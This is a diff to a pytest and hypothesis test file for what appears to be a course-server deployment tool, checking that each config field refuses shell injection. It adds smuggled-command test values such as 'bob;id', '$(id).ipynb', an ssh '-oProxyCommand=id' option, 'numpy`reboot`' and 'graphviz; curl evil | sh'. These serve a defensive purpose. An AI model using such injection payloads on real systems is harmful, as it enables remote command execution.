@@ -17,7 +17,7 @@ from typing import Any
 
 import pytest
 import yaml
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from deploy.config import load_course
@@ -194,24 +194,61 @@ def check_value(field: str, value: str) -> bool:
     if field not in FIELD_FILES and field not in ("admins", "hostname", "email"):
         accepted = str(getattr(config.server, field, None) or getattr(config.content, field, ""))
         assert not (set(accepted) & SHELL_METACHARACTERS), (field, accepted)
-        assert accepted.isprintable() and " " not in accepted.strip(" "), (field, accepted)
+        assert accepted.isprintable(), (field, accepted)
+        # A notebook path may hold spaces ("week 1/intro.ipynb"), never at a name's ends.
+        if field == "open":
+            assert all(part == part.strip() for part in accepted.split("/")), accepted
+        else:
+            assert " " not in accepted, (field, accepted)
     return True
+
+
+# For each field, a value that must be accepted and one that must be refused. The fuzz
+# runs both first, so each field's accept path (plan, bash, one word) and refuse path
+# (errors naming file and line) are exercised whatever the generated values turn out to
+# be; a field whose validation refused everything, or accepted everything, fails.
+ACCEPTED_AND_REFUSED: dict[str, tuple[str, str]] = {
+    "admins": ("bob", "bob;id"),
+    "hostname": ("hub.example.edu", "hub.example.edu;id"),
+    "email": ("teacher@example.edu", "teacher@example.edu$(id)"),
+    "name": ("physics-hub", "physics hub"),
+    "region": ("nyc3", "nyc3|id"),
+    "size": ("s-2vcpu-4gb", "s-2vcpu-4gb&&id"),
+    "image": ("ubuntu-24-04-x64", "ubuntu`id`"),
+    "host": ("hub.example.edu", "hub.example.edu -oProxyCommand=id"),
+    "user": ("ubuntu", "ubuntu\nid"),
+    "branch": ("course-2025", "main;id"),
+    "open": ("StartHere.ipynb", "$(id).ipynb"),
+    "tljh_version": ("2.0.0", "2.0.0;id"),
+    "apt.txt": ("graphviz", "graphviz; curl evil | sh"),
+    "requirements.txt": ("scipy<2,>=1.10", "numpy`reboot`"),
+    "environment.yml dependencies": ("numpy>=1.26,<2", "numpy && id"),
+    "environment.yml channels": ("conda-forge", "conda-forge --override-channels"),
+}
+
+
+def test_every_field_has_an_accepted_and_a_refused_example() -> None:
+    assert set(ACCEPTED_AND_REFUSED) == set(FIELDS)
 
 
 @pytest.mark.parametrize("field", sorted(FIELDS))
 def test_a_fuzzed_field_is_refused_or_one_quoted_word(field: str) -> None:
     strategy = specs if field in FIELD_FILES else values
-    outcomes: list[bool] = []
+    accepted, refused = ACCEPTED_AND_REFUSED[field]
+    outcomes: dict[str, bool] = {}
 
     @FUZZ
+    @example(value=accepted)
+    @example(value=refused)
     @given(value=strategy)
     def fuzz(value: str) -> None:
-        outcomes.append(check_value(field, value))
+        outcomes[value] = check_value(field, value)
 
     fuzz()
-    # Both paths ran: some values refused, and some accepted, planned and checked.
-    assert False in outcomes
-    assert True in outcomes or field in ("hostname", "email", "host"), field
+    # Both paths ran: the known-good value was accepted, planned and checked, and the
+    # known-bad one refused with errors naming the file and line.
+    assert outcomes[accepted] is True, (field, accepted)
+    assert outcomes[refused] is False, (field, refused)
 
 
 @pytest.mark.parametrize(
@@ -242,9 +279,10 @@ def test_known_attacks_are_refused_with_file_and_line(field: str, value: str) ->
 
 def test_accepted_specs_with_shell_characters_are_single_words() -> None:
     # Version constraints need < > ! , [ ] — they must reach pip and conda quoted.
-    check_value("requirements.txt", "scipy<2,>=1.10")
-    check_value("environment.yml dependencies", "numpy>=1.26,<2")
-    check_value("requirements.txt", "requests[socks]>=2.31")
+    # Accepted (True), so the plan was made and each spec checked as one quoted word.
+    assert check_value("requirements.txt", "scipy<2,>=1.10") is True
+    assert check_value("environment.yml dependencies", "numpy>=1.26,<2") is True
+    assert check_value("requirements.txt", "requests[socks]>=2.31") is True
 
 
 # ----- end to end ----------------------------------------------------------------------
